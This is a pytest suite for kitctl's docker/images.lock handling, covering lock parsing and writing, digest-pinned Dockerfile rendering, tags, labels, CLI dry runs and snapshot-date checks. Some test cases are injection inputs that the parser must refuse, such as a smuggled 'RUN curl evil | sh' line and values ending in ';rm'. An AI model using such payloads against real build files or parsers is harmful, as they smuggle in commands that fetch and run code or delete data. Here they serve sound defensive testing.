"""docker/images.lock without Docker: the file (parse, write, refuse), what a lock does to the rendered Dockerfile,
the tags and the labels, `kitctl render --lock` and `kitctl build --dry-run --lock`, the checks a locked build makes
before it starts, and the messages of a lock that no longer resolves. The real-engine side is in
test_images_lock_docker.py."""
from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

import kitctl_proc

from kitctl.core.config import KitConfig, Mirrors
from kitctl.core.errors import ConfigError, KitError
from kitctl.images import build as builder
from kitctl.images import context, inputs
from kitctl.images import lock as lk
from kitctl.images import lock_resolve
from kitctl.images import render as rendering
from kitctl.images import request

from tests.images.test_images_render import HADOLINT, REPO

D1 = "sha256:" + "1" * 64
D2 = "sha256:" + "2" * 64
DATA_APT = {"ca-certificates": "20230311+deb12u1", "python3": "3.11.2-1+b1", "python3-venv": "3.11.2-1+b1",
            "libpython3.11-stdlib": "3.11.2-6+deb12u8", "python3.11": "3.11.2-6+deb12u8"}
TOOL_APT = {"ca-certificates": "20230311+deb12u1", "g++": "4:12.2.0-3", "libopenmpi-dev": "4.1.4-3+b1",
            "make": "4.3-4.1", "openmpi-bin": "4.1.4-3+b1", "python3": "3.11.2-1+b1", "python3-venv": "3.11.2-1+b1"}
RUN_APT = {"ca-certificates": "20230311+deb12u1", "libgomp1": "12.2.0-14", "openmpi-bin": "4.1.4-3+b1"}


def a_lock(source: str = "registry", base: str = "debian:bookworm") -> lk.ImagesLock:
    return lk.ImagesLock(stages={
        "data": lk.StageLock(base, D1, source, dict(DATA_APT)),
        "wheels-toolchain": lk.StageLock(base, D1, source, dict(TOOL_APT)),
        "wheels-runtime": lk.StageLock(base, D1, source, dict(RUN_APT)),
    })


def wheels(lock=None, **kw) -> request.BuildRequest:
    req = request.BuildRequest.from_config(KitConfig(**kw), provider="wheels", archs=[75, 86])
    req.lock = lock
    return req


def write(tmp_path: Path, lock: lk.ImagesLock, name: str = "images.lock") -> Path:
    p = tmp_path / name
    lk.write(lock, p, "kitctl lock --provider wheels", "2026-12-06T00:00:00Z", "0.1.0")
    return p


# ------------------------------------------------------------------------------------------------- the file
def test_lock_file_round_trips_sorted_with_a_header(tmp_path):
    p = write(tmp_path, a_lock())
    text = p.read_text()
    assert text.startswith("# docker/images.lock -- ") and "Made by kitctl 0.1.0 at 2026-12-06T00:00:00Z: kitctl lock" \
        in text
    body = [line for line in text.splitlines() if line and not line.startswith("#")]
    assert body[:4] == ["[data]", "base = debian:bookworm", f"digest = {D1}", "source = registry"]
    pkgs = body[4:9]
    names = [x.split("=")[0] for x in pkgs]
    assert names == sorted(names) and "python3=3.11.2-1+b1" in pkgs    # name=version, sorted, like requirements.lock
    back = lk.load(p)
    assert back is not None and back.stages == a_lock().stages and back.path == p
    # the hash is of the sections only: a re-lock to the same content (another date, command) keeps it
    lk.write(back, p, "kitctl build --update-lock", "2027-01-01T00:00:00Z", "0.2.0")
    assert lk.load(p).sha256() == a_lock().sha256()                                     # type: ignore[union-attr]
    changed = a_lock()
    changed.stages["data"].apt["python3"] = "3.11.2-2"
    assert changed.sha256() != a_lock().sha256()


@pytest.mark.parametrize("line, says", [
    ("libfoo=1.0 \nRUN curl evil | sh", "not an apt name=version"),
    ("python3=3.11;rm", "not an apt name=version"),
    ("Python3=3.11", "not an apt name=version"),
    ("[evil]", "unknown stage"),
    ("digest = sha256:abc", "digest must be sha256"),
    ("base = debian:bookworm\nRUN x", "not an apt name=version"),
])
def test_a_bad_lock_is_refused_naming_the_line(tmp_path, line, says):
    text = write(tmp_path, a_lock()).read_text().replace("python3-venv=3.11.2-1+b1\n", line + "\n", 1) \
        if not line.startswith("digest") else write(tmp_path, a_lock()).read_text().replace(f"digest = {D1}", line, 1)
    with pytest.raises(ConfigError, match=says) as e:
        lk.parse(text, "images.lock")
    assert e.value.exit_code == 2 and "kitctl lock" in (e.value.hint or "")


def test_a_stage_without_its_digest_or_twice_is_refused():
    with pytest.raises(ConfigError, match="lacks digest"):
        lk.parse("[data]\nbase = debian:bookworm\nsource = local\npython3=3.11\n")
    with pytest.raises(ConfigError, match="twice"):
        lk.parse(f"[data]\nbase = x\ndigest = {D1}\nsource = local\n[data]\n")
    with pytest.raises(ConfigError, match="--lock .*no such file"):
        lk.load(Path("/nonexistent/images.lock"))


def test_dpkg_lists_give_what_the_stage_installed():
    before = lk.parse_dpkg("libc6=2.36-9\nca-certificates=20230311\n")
    after = lk.parse_dpkg("libc6=2.36-9+deb12u1\nca-certificates=20230311\npython3=3.11.2-1+b1\nlibx:amd64=1\n")
    assert lk.installed_by(before, after) == {"libc6": "2.36-9+deb12u1", "python3": "3.11.2-1+b1", "libx": "1"}
    assert lk.pin_list(["python3", "curl"], {"python3": "3.11", "libpython3": "3.11"}) == \
        ["libpython3=3.11", "python3=3.11", "curl"]                  # locked ones pinned; an unlocked one stays bare
    assert lk.pin_list(["python3"], {}) == ["python3"]
    assert lk.differences("data", {"a": "1", "b": "2", "c": "3"}, {"a": "1", "b": "9", "d": "4"}) == [
        "[data] b: locked 2, resolves to 9 now", "[data] c=3: locked, not installed now",
        "[data] d=4: installed now, not in the lock"]


# ------------------------------------------------------------------------------------ render, tags, labels
def test_render_under_a_registry_lock_pins_from_and_apt():
    text = rendering.render(wheels(a_lock()))
    assert text.count(f"FROM debian:bookworm@{D1} AS ") == 3              # toolchain, runtime, data
    data = rendering.stage_texts(text)["data"]
    assert "        python3=3.11.2-1+b1 && \\\n" in data and "libpython3.11-stdlib=3.11.2-6+deb12u8" in data
    assert "g++=4:12.2.0-3" in rendering.stage_texts(text)["toolchain"]
    assert "libgomp1=12.2.0-14" in rendering.stage_texts(text)["runtime"]
    assert f'org.llmc-kit.images-lock="{a_lock().sections_sha256(["data"])}"' in data
    assert a_lock().sections_sha256(["wheels-toolchain", "wheels-runtime"]) in rendering.stage_texts(text)["runtime"]
    plain = rendering.render(wheels())
    assert "FROM debian:bookworm AS data" in plain and "python3=" not in plain and "images-lock" not in plain


def test_render_under_a_local_lock_keeps_the_name_and_says_the_id():
    text = rendering.render(wheels(a_lock("local")))
    assert f"# locked: local image ID {D1}" in text and "FROM debian:bookworm AS data" in text and "@sha256" not in text


def test_a_lock_for_another_base_does_not_apply():
    req = wheels(a_lock(base="local/debian:bookworm"))
    assert rendering.stage_locks(req) == {}
    assert "[data] was locked for base local/debian:bookworm, this build uses debian:bookworm" in \
        rendering.lock_gaps(req)
    assert "python3=" not in rendering.render(req)


def test_the_lock_moves_the_tags_hash(tmp_path):
    plain = context.prepare_context(wheels(), tmp_path / "a", fetch_source=False)
    locked = context.prepare_context(wheels(a_lock()), tmp_path / "b", fetch_source=False)
    other = a_lock()
    other.stages["data"].apt["python3"] = "3.11.2-2"
    moved = context.prepare_context(wheels(other), tmp_path / "c", fetch_source=False)
    assert len({plain.hashes["data"], locked.hashes["data"], moved.hashes["data"]}) == 3
    # the runtime image's pins (toolchain, runtime sections) did not change: its tag stays (llm.c is not rebuilt)
    assert locked.hashes["runtime"] == moved.hashes["runtime"] != plain.hashes["runtime"]


@pytest.mark.slow       # hadolint over every rendered stage (~0.9 s)
def test_locked_render_lints_clean_with_hadolint(tmp_path):
    if not Path(HADOLINT).exists():
        pytest.skip("hadolint not installed")
    f = tmp_path / "Dockerfile"
    f.write_text(rendering.render(wheels(a_lock())))
    r = subprocess.run([HADOLINT, "--no-color", "-c", str(REPO / "docker" / "hadolint.yaml"), str(f)],
                       capture_output=True, text=True)
    assert r.returncode == 0, r.stdout + r.stderr


def test_probe_repeats_the_stage_steps_word_for_word():
    """The probe's FROM..apt_install is the real stage's text, so `kitctl build` and `kitctl lock` share layers."""
    req = wheels()
    named = rendering.apt_requests(req)
    assert named["data"] == ["python3", "python3-venv", "ca-certificates"]
    stages = [{"name": "data", "base": "debian:bookworm", "note": "", "packages": named["data"]}]
    probe = lock_resolve.probe_text(stages)
    real = rendering.stage_texts(rendering.render(req))["data"]
    start = real.index("FROM debian:bookworm AS data")
    steps = real[start:real.index("rm -f /etc/apt/apt.conf.d/99llmc-ca", start)]

    def code(text: str) -> str:                         # comment lines are not build steps
        return "\n".join(line for line in text.splitlines() if not line.startswith("#"))
    assert code(steps) in code(probe)
    assert "FROM scratch AS lists" in probe and "COPY --from=data-base /llmc-dpkg.txt /data.before" in probe


# ------------------------------------------------------------------------------ the CLI, without Docker
def kit_env() -> dict[str, str]:
    """The environment for kitctl: KIT_TEST_* (the tests' own settings, e.g. KIT_TEST_REGISTRY) are not kit.yaml
    fields, which kitctl would refuse."""
    return {**{k: v for k, v in os.environ.items() if not k.startswith("KIT_TEST_")}, "COLUMNS": "200"}


def kit(tmp_path: Path, *args: str, config: str = "data_root: ./data\n") -> subprocess.CompletedProcess:
    (tmp_path / "kit.yaml").write_text(config)
    r = kitctl_proc.run(["--config", str(tmp_path / "kit.yaml"), *args], cwd=tmp_path, env=kit_env())
    r.stderr = " ".join(r.stderr.split())
    return r


@pytest.mark.slow
def test_kitctl_render_with_a_lock_shows_digest_pinned_from_and_versioned_apt(tmp_path):
    p = write(tmp_path, a_lock())
    r = kit(tmp_path, "render", "--stdout", "--provider", "wheels", "--arch", "75", "--lock", str(p))
    assert r.returncode == 0, r.stderr
    assert f"FROM debian:bookworm@{D1} AS toolchain" in r.stdout and "make=4.3-4.1" in r.stdout
    # a lock of another provider: the stages it lacks are said, and rendered unpinned
    r = kit(tmp_path, "render", "--stdout", "--provider", "nvidia", "--arch", "75", "--lock", str(p))
    assert r.returncode == 0 and "[nvidia-toolchain] is not in the lock" in r.stderr
    assert "FROM nvidia/cuda:12.8.1-cudnn-devel-ubuntu24.04 AS toolchain" in r.stdout
    r = kit(tmp_path, "render", "--stdout", "--lock", str(tmp_path / "nope.lock"))
    assert r.returncode == 2 and "no such file" in r.stderr


@pytest.mark.slow
def test_kitctl_build_dry_run_with_a_lock_stops_on_a_stage_it_lacks(tmp_path):
    lock = a_lock()
    del lock.stages["wheels-runtime"]
    p = write(tmp_path, lock)
    r = kit(tmp_path, "build", "--dry-run", "--provider", "wheels", "--arch", "75", "--target", "runtime",
            "--lock", str(p))
    assert r.returncode == 1, r.stdout + r.stderr
    assert "differs from docker/images.lock" in r.stderr and "[wheels-runtime] is not in the lock" in r.stderr
    assert "--update-lock" in r.stderr and "kitctl lock --provider wheels" in r.stderr
    r = kit(tmp_path, "build", "--runtime", "native", "--dry-run", "--arch", "75", "--update-lock")
    assert r.returncode == 2 and "--update-lock" in r.stderr


def test_a_locked_build_stops_when_the_recipe_names_a_package_the_lock_lacks():
    lock = a_lock()
    del lock.stages["data"].apt["python3-venv"]
    req = wheels(lock)
    with pytest.raises(KitError, match=r"\[data\]: the recipe installs python3-venv") as e:
        lock_resolve.check_bases(req, ("data",))
    assert e.value.exit_code == 1


@pytest.mark.parametrize("tail, says", [
    ("#9 1.2 E: Version '3.11.2-1+b1' for 'python3' was not found",
     "pins python3=3.11.2-1+b1, which the apt archive no longer serves"),
    (f"ERROR: failed to solve: debian:bookworm@{D1}: not found",
     f"pins the base image debian:bookworm@{D1}, which the registry no longer has"),
])
def test_a_lock_that_no_longer_resolves_says_what_and_the_ways_on(tail, says):
    e = lock_resolve.explain_failure(["docker build of target data failed (exit 1):", tail], wheels(a_lock()))
    assert e is not None and says in e.message and e.exit_code == 1
    assert "--update-lock" in (e.hint or "")
    if "apt" in says:
        assert "mirrors.apt_snapshot" in (e.hint or "")
    assert lock_resolve.explain_failure(["E: Unable to locate package foo"], wheels(a_lock())) is None


# ------------------------------------------------------------------------------ snapshot mirror, epoch
def test_apt_snapshot_setting_is_checked_and_becomes_a_build_arg():
    assert inputs.check_apt_snapshot("20250601") == "20250601T000000Z"
    assert inputs.check_apt_snapshot("20250601T123000Z") == "20250601T123000Z"
    for bad in ("2025-06-01", "20251301", "20250601T1230Z", "20250601T000000Z; rm"):
        with pytest.raises(ConfigError, match="not a snapshot date"):
            inputs.check_apt_snapshot(bad)
    with pytest.raises(ConfigError, match="both set"):
        inputs.check_apt_snapshot("20250601", "https://mirror.example/debian")
    req = wheels(mirrors=Mirrors(apt_snapshot="20250601"))
    assert builder.build_args(req) == {"APT_SNAPSHOT": "20250601T000000Z"}


def test_source_date_epoch_goes_in_and_rewrites_only_where_buildkit_can(tmp_path):
    assert builder.source_date_epoch({}) is None
    assert builder.source_date_epoch({"SOURCE_DATE_EPOCH": "1733443200"}) == "1733443200"
    with pytest.raises(ConfigError, match="SOURCE_DATE_EPOCH"):
        builder.source_date_epoch({"SOURCE_DATE_EPOCH": "yesterday"})
    req = wheels()
    ctx = context.prepare_context(req, tmp_path / "c", fetch_source=False)
    old = builder.build_argv(req, ctx, "data", epoch="1733443200", rewrite=False)
    assert "--load" in old and "SOURCE_DATE_EPOCH=1733443200" in old and "rewrite-timestamp=true" not in " ".join(old)
    new = builder.build_argv(req, ctx, "data", epoch="1733443200", rewrite=True)
    assert "--load" not in new and new[new.index("--output") + 1] == "type=docker,rewrite-timestamp=true"
    assert "SOURCE_DATE_EPOCH" not in " ".join(builder.build_argv(req, ctx, "data"))


def test_doctor_judges_images_against_the_lock():
    lock = a_lock()
    rt = {"org.llmc-kit.stage": "runtime", "org.llmc-kit.provider": "wheels"}
    data = {"org.llmc-kit.stage": "data"}
    want_rt = lock.sections_sha256(["wheels-toolchain", "wheels-runtime"])
    want_data = lock.sections_sha256(["data"])
    assert lk.expected_label(lock, rt) == want_rt and lk.expected_label(lock, data) == want_data
    ok = [("k:latest", {**rt, "org.llmc-kit.images-lock": want_rt}),
          ("k:data", {**data, "org.llmc-kit.images-lock": want_data})]
    assert lk.judge_images(lock, ok)[0] == "ok"
    st, detail, _ = lk.judge_images(lock, [ok[0], ("k:data", data)])
    assert st == "warn" and "k:data: built without a lock" in detail and "k:latest" not in detail
    st, detail, _ = lk.judge_images(lock, [("k:data", {**data, "org.llmc-kit.images-lock": "f" * 64})])
    assert st == "warn" and "built from another lock (ffffffffffff)" in detail
    assert lk.judge_images(lock, [])[0] == "info"


def test_status_shows_the_lock_the_runs_image_was_built_from(tmp_path):
    """run.json's runtime.images_lock (kitctl.train.gather.inspect_image reads it from the image label) is what
    `kitctl status` shows; an image built without a lock says so."""
    import json

    from rich.console import Console

    from kitctl.observe.status import collect, render

    def shown(runtime: dict) -> str:
        (tmp_path / "run.json").write_text(json.dumps({"runtime": runtime, "session": {"status": "ok"}}))
        con = Console(record=True, width=200)
        con.print(render(collect(tmp_path, gpus_query=list)))
        return con.export_text()

    out = shown({"kind": "docker", "image": "llmc-kit:latest", "images_lock": "ab" * 32})
    assert "llmc-kit:latest, images.lock abababababab" in out
    assert "built without docker/images.lock" in shown({"kind": "docker", "image": "llmc-kit:latest"})
    assert "images.lock" not in shown({"kind": "native", "binary": "/x/train_gpt2cu"})
